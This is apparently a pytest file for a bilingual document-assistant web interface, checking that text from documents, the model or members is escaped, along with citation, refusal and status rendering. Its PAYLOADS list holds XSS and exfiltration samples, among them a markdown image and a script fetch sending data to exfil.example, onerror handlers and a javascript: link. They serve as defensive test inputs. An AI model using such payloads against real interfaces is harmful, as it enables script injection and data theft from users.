"""Values to HTML: what is shown, and that nothing from a document, a model or a member becomes markup."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest

from rag.errors import ModelError, NoStore
from rag.types import Answer, Finished, Language, Queued, Reading, Retrieved, Source, Token
from tests.browser.scripted import HOSTILE, PATH, QUOTE, TITLE, ScriptedAssistant, make_pdf
from ui.exchange import Exchange, advance, history
from ui.history.archive import Entry
from ui.identity import Member
from ui.standing import standing_of
from ui.strings import THIN
from ui.view import Reader as AddressedTo
from ui.view import (
    entries_html,
    escape,
    exchange_html,
    header_html,
    marks_html,
    notice_html,
    panel_html,
    place_html,
    status_html,
)

PAYLOADS = [
    "![x](http://exfil.example/p.png?d=secret)",
    "<img src=http://exfil.example/p.png onerror=alert(1)>",
    "<script>fetch('http://exfil.example')</script>",
    "[cliquez](javascript:alert(1))",
    "https://exfil.example et www.exfil.example",
    "</article></div><style>*{display:none}</style>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "{{constructor}} ${alert(1)} `x` @children",
    "&lt;img src=x&gt; &#60;script&#62;",
    "**gras** _italique_ # titre",
    "\u202egnp.exe\u2066",
]

FR, EN = AddressedTo("fr"), AddressedTo("en")
OURS = frozenset(
    "article div h2 h3 p span s button small br strong details summary ul li blockquote figure figcaption svg rect "
    "img nav a form label input textarea".split()
)


class Reader(HTMLParser):
    """Collects elements, attributes and text as a browser would."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def attributes(self, name: str) -> list[str]:
        return [value or "" for _, attributes in self.elements for key, value in attributes.items() if key == name]


@pytest.fixture(scope="module")
def assistant(tmp_path_factory: pytest.TempPathFactory) -> ScriptedAssistant:
    corpus = tmp_path_factory.mktemp("corpus")
    return ScriptedAssistant(corpus, make_pdf(corpus / PATH), pause=0)


def _answer(assistant: ScriptedAssistant, question: str = "Quelle épaisseur ?") -> Answer:
    event = list(assistant.ask(question))[-1]
    assert isinstance(event, Finished)
    return event.answer


def _shown(answer: Answer) -> Reader:
    return Reader(exchange_html(Exchange(1, answer.question, "done", answer=answer), FR))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_is_shown_as_text_wherever_it_stands(assistant: ScriptedAssistant, payload: str) -> None:
    plain = _answer(assistant)
    page = replace(assistant.sentence.page, label=payload, source=replace(assistant.source, title=payload))
    sentence = replace(assistant.sentence, text=payload, page=page)
    chunk = replace(assistant.passages[0].chunk, page=page, text=payload)
    hostile = replace(
        plain,
        question=payload,
        standalone=payload + " ?",
        model=payload,
        claims=tuple(replace(claim, text=payload, reason=payload) for claim in plain.claims),
        citations=tuple(replace(citation, sentence=sentence) for citation in plain.citations),
        passages=(*plain.passages, replace(plain.passages[0], chunk=replace(chunk, sentences=()))),
    )
    answers = [hostile, replace(hostile, status="refused", refusal="nothing_supported")]
    for reader, reference in zip(map(_shown, answers), [plain, replace(plain, status="refused")], strict=True):
        names = {name for name, _ in reader.elements}
        assert names <= OURS
        assert not [key for _, attributes in reader.elements for key in attributes if key.startswith("on")]
        assert all(href.startswith("/document/public/r%C3%A8gles") for href in reader.attributes("href"))
        assert all(source.startswith("/page/public/r%C3%A8gles") for source in reader.attributes("data-src"))
        assert reader.attributes("src") == []
        assert len(reader.elements) >= len(_shown(reference).elements)
    visible = "".join(c for c in payload if c not in "\u202e\u2066")
    assert visible in _shown(hostile).text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_draft_question_or_name_stays_text(payload: str) -> None:
    exchange = Exchange(1, payload, "writing", draft=payload)
    hostile = Member(3, payload, "admin", None)
    entries = entries_html([Entry("a1", payload, 0.0)], "fr", "a1", date(2026, 11, 25), False)
    for markup in (
        exchange_html(exchange, FR), header_html(payload, "fr", hostile), status_html(payload, None, "en"), entries,
        place_html("a1", payload), exchange_html(replace(exchange, phase="stopped"), FR),
    ):  # fmt: skip
        reader = Reader(markup)
        names = {name for name, _ in reader.elements}
        assert names <= {*OURS, "header", "h1", "path"}
        assert not [key for _, attributes in reader.elements for key in attributes if key.startswith("on")]
        assert not set("`{}[]*!") & set(markup.replace("&#", ""))


def test_a_path_cannot_leave_its_address(assistant: ScriptedAssistant) -> None:
    answer = _answer(assistant)
    source = replace(assistant.source, path='a"b/../?x#y&z.pdf')
    sentence = replace(assistant.sentence, page=replace(assistant.sentence.page, source=source))
    reader = _shown(replace(answer, citations=(replace(answer.citations[0], sentence=sentence),)))
    assert "/document/a%22b/../%3Fx%23y%26z.pdf#page=2" in reader.attributes("href")


def test_an_answer_cites_by_buttons_that_name_their_page(assistant: ScriptedAssistant) -> None:
    reader = _shown(_answer(assistant))
    buttons = [a for name, a in reader.elements if name == "button" and a.get("class") == "cite"]
    assert [(b["data-evidence"], b["type"]) for b in buttons] == [("e1-c1", "button")]
    assert "page\xa02 (imprimée\xa0: ii)" in (buttons[0]["aria-label"] or "")
    assert {"e1-c1", "e1-p1"} <= set(reader.attributes("id"))
    assert f"«{THIN}{QUOTE}{THIN}»" in reader.text


def test_the_pages_of_an_answer_are_named_under_it_with_their_dates(assistant: ScriptedAssistant) -> None:
    answer = _answer(assistant)
    first = answer.citations[0]
    answer = replace(answer, citations=(first, replace(first, number=2)))
    (shown,) = standing_of([Exchange(1, "Quoi ?", "done", answer=answer)], assistant, None)
    reader = Reader(exchange_html(shown, FR))
    rows = [a["data-evidence"] for name, a in reader.elements if name == "button" and a.get("class") == "source"]
    assert rows == ["e1-c1"]  # one page, two citations
    told = plain(reader.text)
    assert f"1, 2{TITLE}page 2 (imprimée : ii) · 1er mars 2025" in told
    undated = Reader(exchange_html(Exchange(1, "Quoi ?", "done", answer=answer), FR))
    assert "mars 2025" not in undated.text


def test_a_follow_up_says_what_it_goes_on_with(assistant: ScriptedAssistant) -> None:
    answer = replace(_answer(assistant), question="et un cadre ?", standalone="et un cadre ? (quelle prime ?)")
    assert "Comprise comme la suite de : « quelle prime ? »" in plain(_shown(answer).text)
    assert "comprise ainsi : quelle prime ?" in plain(_shown(replace(answer, standalone="quelle prime ?")).text)


def test_who_is_not_content_is_led_to_the_secretariat_too(assistant: ScriptedAssistant) -> None:
    exchange = Exchange(1, "q", "done", answer=_answer(assistant), reported="wrong_source")
    assert "Poser la question au secrétariat" in Reader(exchange_html(exchange, FR)).text
    assert "secrétariat" not in Reader(exchange_html(exchange, replace(FR, sends=False))).text
    assert "transmise" in Reader(exchange_html(replace(exchange, sent=True), FR)).text


def test_the_highlight_is_drawn_in_points_of_the_page(assistant: ScriptedAssistant) -> None:
    page, (x0, y0, x1, y1) = assistant.sentence.page, assistant.sentence.boxes[0]
    reader = Reader(marks_html(page, assistant.sentence.boxes))
    assert reader.attributes("viewbox") == [f"0 0 {page.width:.2f} {page.height:.2f}"]
    assert [float(reader.attributes(name)[0]) for name in ("x", "y", "width", "height")] == pytest.approx(
        [x0, y0, x1 - x0, y1 - y0], abs=0.01
    )


def test_an_unsupported_claim_is_struck_out_with_its_reason(assistant: ScriptedAssistant) -> None:
    reader = _shown(_answer(assistant))
    struck = [attributes for name, attributes in reader.elements if name == "s" and "title" in attributes]
    assert len(struck) == 1
    assert "aucune source ne parle de couleur" in (struck[0]["title"] or "")
    assert "Les phrases barrées" in reader.text


def test_a_refusal_says_so_and_names_the_nearest_pages(assistant: ScriptedAssistant) -> None:
    reader = _shown(_answer(assistant, "Quel est le prix ?"))
    assert "Je n’ai pas trouvé la réponse" in reader.text
    assert reader.text.count("Règles de pose des vitrages, page\xa0") >= 2
    assert reader.attributes("data-evidence") == ["e1-p1", "e1-p2"]


def test_read_but_unused_passages_are_folded_away(assistant: ScriptedAssistant) -> None:
    reader = _shown(_answer(assistant))
    assert "Autres passages lus (1)" in reader.text
    assert "open" not in [key for name, attributes in reader.elements if name == "details" for key in attributes]


def test_the_status_says_who_answers() -> None:
    assert "aucun modèle de langue" in Reader(status_html("extracts", None, "fr")).text
    assert "Modèle\xa0: m.gguf" in Reader(status_html("m.gguf", None, "fr")).text
    elsewhere = status_html("m", None, "fr", None, "http://10.0.0.5:8000/v1")
    assert "Le modèle tourne sur http://10.0.0.5:8000/v1." in Reader(elsewhere).text
    assert "tourne" not in Reader(status_html("extracts", None, "fr", None, "http://10.0.0.5:8000/v1")).text
    assert "se prépare" in Reader(status_html(None, None, "fr")).text
    assert "getting ready" in Reader(status_html(None, None, "en")).text
    error = NoStore("Rien n'est indexé : lancez make ingest.", "Nothing is indexed: run make ingest.")
    assert "lancez make ingest" in Reader(status_html(None, error, "fr")).text
    assert "run make ingest" in Reader(status_html(None, error, "en")).text


def test_english_is_english_throughout(assistant: ScriptedAssistant) -> None:
    answer = _answer(assistant)
    reader = Reader(exchange_html(Exchange(1, "q", "done", answer=answer), EN))
    assert "Other passages read (1)" in reader.text
    assert "1.2 s" in reader.text
    assert all("lang=en" in address for address in reader.attributes("href") + reader.attributes("data-src"))
    assert "Touch a number" in Reader(panel_html("en")).text


def test_commands_and_settings_are_for_who_administers_alone() -> None:
    member = replace(FR, admin=False)
    for error in (
        NoStore("Lancez make ingest.", "Run make ingest."),
        ModelError("Voir model_slots.", "See model_slots."),
    ):
        failed = Exchange(1, "q", "failed", error=error)
        assert error.fr in plain(Reader(exchange_html(failed, FR)).text)
        for markup in (exchange_html(failed, member), status_html(None, error, "fr", admin=False),
                       status_html("extracts", None, "fr", error, admin=False)):  # fmt: skip
            text = Reader(markup).text
            assert error.fr not in text and "Prévenez l’administrateur" in text
    gentle = Exchange(1, "q", "failed", error=ModelError("Reposez la question.", "Ask again."))
    assert "Reposez la question." in Reader(exchange_html(gentle, member)).text


def test_an_exchange_follows_its_events() -> None:
    exchange = advance(Exchange(1, "q"), Retrieved("q", ()))
    assert "Lecture des passages" in exchange_html(exchange, FR)
    exchange = advance(advance(exchange, Token("Un ")), Token("mot"))
    assert exchange.draft == "Un mot"
    assert "pas encore vérifié" in exchange_html(exchange, FR)
    assert "n’a pas été vérifié" in Reader(exchange_html(replace(exchange, phase="stopped"), FR)).text
    waiting = replace(Exchange(1, "q", "searching"), elapsed=7)
    assert f"7{' '}s" in exchange_html(waiting, FR)
    failed = replace(exchange, phase="failed", error=ModelError("Le modèle a échoué.", "The model failed."))
    assert "Le modèle a échoué." in Reader(exchange_html(failed, FR)).text


def test_refused_questions_are_leaned_on_too_and_those_without_an_end_are_not(assistant: ScriptedAssistant) -> None:
    answered = Exchange(1, "Un", "done", answer=_answer(assistant))
    refused = Exchange(2, "Deux", "done", answer=_answer(assistant, "prix"))
    stopped = Exchange(3, "Trois", "stopped", draft="…")
    turns = history((answered, refused, stopped))
    said = [("user", "Un"), ("assistant", _answer(assistant).text), ("user", "Deux")]
    assert [(turn.role, turn.text) for turn in turns] == said
    assert len(history((answered,) * 50)) == 80


def test_escape_keeps_french_and_drops_control_characters() -> None:
    assert Reader(escape("L'été\u202f: «\xa05 €\xa0» — œuvre\x00\x1b")).text == "L'été\u202f: «\xa05 €\xa0» — œuvre"
    assert notice_html(None, "fr") == ""
    assert HOSTILE in Reader(escape(HOSTILE)).text


def test_static_files_are_there() -> None:
    static = Path(__file__).resolve().parent.parent / "ui" / "static"
    assert {"greffier.css", "greffier.js", "evidence.js", "drawer.js", "feedback.js", "greffier.svg"} <= {
        file.name for file in static.iterdir()
    }


@pytest.mark.parametrize(
    ("position", "seconds", "french", "english"),
    [
        (1, None, "1 question avant la vôtre…", "1 question before yours…"),
        (2, 38.0, "2 questions avant la vôtre, environ 40 s", "2 questions before yours, about 40 s"),
        (1, 0.0, "1 question avant la vôtre, environ 5 s", "1 question before yours, about 5 s"),
        (9, 200.0, "9 questions avant la vôtre, environ 3 min", "9 questions before yours, about 3 min"),
    ],
)
def test_who_waits_reads_how_many_go_before_and_about_how_long(
    position: int, seconds: float | None, french: str, english: str
) -> None:
    exchange = advance(Exchange(1, "q", elapsed=20), Queued(position, seconds))
    assert french in Reader(exchange_html(exchange, FR)).text
    assert english in Reader(exchange_html(exchange, EN)).text


def test_reading_shows_that_passages_are_read_and_does_not_hide_what_is_written() -> None:
    reading = advance(Exchange(1, "q", phase="waiting"), Reading())
    assert reading.phase == "reading"
    writing = advance(reading, Token("Un"))
    assert advance(writing, Reading()) == writing


def test_an_answer_from_memory_says_so(assistant: ScriptedAssistant) -> None:
    answer = _answer(assistant)
    assert "déjà écrite" not in Reader(exchange_html(Exchange(1, "q", "done", answer=answer), FR)).text
    again = Exchange(1, "q", "done", answer=replace(answer, cached=True))
    assert "réponse déjà écrite" in Reader(exchange_html(again, FR)).text


def test_a_broken_model_is_named_beside_the_extracts() -> None:
    problem = ModelError("Le fichier est abîmé.", "The file is damaged.")
    assert "Réponse par extraits" in Reader(status_html("extracts", None, "fr", problem)).text
    assert "The file is damaged." in Reader(status_html("extracts", None, "en", problem)).text
    assert "abîmé" not in Reader(status_html("m.gguf", None, "fr", problem)).text


def plain(text: str) -> str:
    return " ".join(text.split()).replace("’", "'")


@pytest.mark.parametrize(
    ("language", "beside", "above"),
    [
        ("fr", "Une version plus récente existe : Guide <i>2025</i>", "Source d'une ancienne version : 1, 3."),
        ("en", "A newer version exists: Guide <i>2025</i>", "Source from an older version: 1, 3."),
    ],
)
def test_who_reads_an_old_version_is_told_of_the_newer_one(
    assistant: ScriptedAssistant, language: Language, beside: str, above: str
) -> None:
    answer = _answer(assistant)
    newer = Source("public/guide 2025.pdf", "00", "Guide <i>2025</i>")
    older = replace(answer.citations[0], newer=newer)
    answer = replace(answer, citations=(older, *answer.citations[1:2], replace(older, number=3)))
    page = Reader(exchange_html(Exchange(1, "?", "done", answer=answer), AddressedTo(language)))
    assert beside in plain(page.text) and above in plain(page.text)
    query = "?lang=en" if language == "en" else ""
    assert f"/document/public/guide%202025.pdf{query}" in page.attributes("href")
    assert "i" not in [element for element, _ in page.elements]


def test_who_reads_the_newest_version_is_told_of_the_older_one_beside_the_source(assistant: ScriptedAssistant) -> None:
    answer = _answer(assistant)
    older = Source("guide 2023.pdf", "00", "Guide 2023")
    answer = replace(answer, citations=(replace(answer.citations[0], older=older), *answer.citations[1:]))
    page = Reader(exchange_html(Exchange(1, "?", "done", answer=answer), FR))
    assert "Une version plus ancienne existe : Guide 2023" in plain(page.text)
    assert "ancienne version" not in page.text


def test_who_is_refused_is_led_to_the_secretariat_where_there_is_one(assistant: ScriptedAssistant) -> None:
    refused = Exchange(1, "Quel prix & quoi ?", "done", answer=_answer(assistant, "Quel prix ?"))
    plain_ = Reader(exchange_html(refused, FR))
    assert "Poser la question au secrétariat" in plain_.text and "named" not in plain_.attributes("name")
    known = Reader(exchange_html(refused, replace(FR, secretariat="bureau@asso.fr", signed_in=True)))
    assert "named" in known.attributes("name")
    assert [a for a in known.attributes("href") if a.startswith("mailto:")] == [
        "mailto:bureau@asso.fr?subject=Question%20sans%20r%C3%A9ponse%20dans%20les%20documents"
        "&body=Quel%20prix%20%26%20quoi%20%3F"
    ]
    assert "secrétariat" not in Reader(exchange_html(refused, replace(FR, sends=False))).text.partition("sinon")[0]
    assert "transmise" in Reader(exchange_html(replace(refused, sent=True), FR)).text


def test_what_was_said_of_an_answer_stays_pressed(assistant: ScriptedAssistant) -> None:
    exchange = Exchange(1, "q", "done", answer=_answer(assistant), reported="out_of_date")
    pressed = {
        a["data-kind"]: a["aria-pressed"] for _, a in Reader(exchange_html(exchange, FR)).elements if "data-kind" in a
    }
    assert pressed == {"useful": "false", "not_useful": "false", "wrong_source": "false", "out_of_date": "true"}


def test_no_line_of_an_answer_can_begin_with_a_colon_a_unit_or_the_rest_of_a_number(
    assistant: ScriptedAssistant,
) -> None:
    answer = _answer(assistant)
    row = replace(answer.claims[0], text="Coefficient : 230 ; Mensuel : 2 168,30 €")
    shown = exchange_html(Exchange(1, "Combien ?", "done", answer=replace(answer, claims=(row,))), FR)
    assert "Coefficient\xa0: 230\xa0; Mensuel\xa0: 2\xa0168,30\xa0€" in shown


def test_what_was_stopped_before_a_word_was_written_speaks_of_no_writing() -> None:
    for draft, warned in (("", False), ("Le prix", True)):
        shown = Reader(exchange_html(Exchange(1, "Combien ?", "stopped", draft=draft), FR)).text
        assert "Réponse arrêtée." in shown and ("n’a pas été vérifié" in shown) is warned
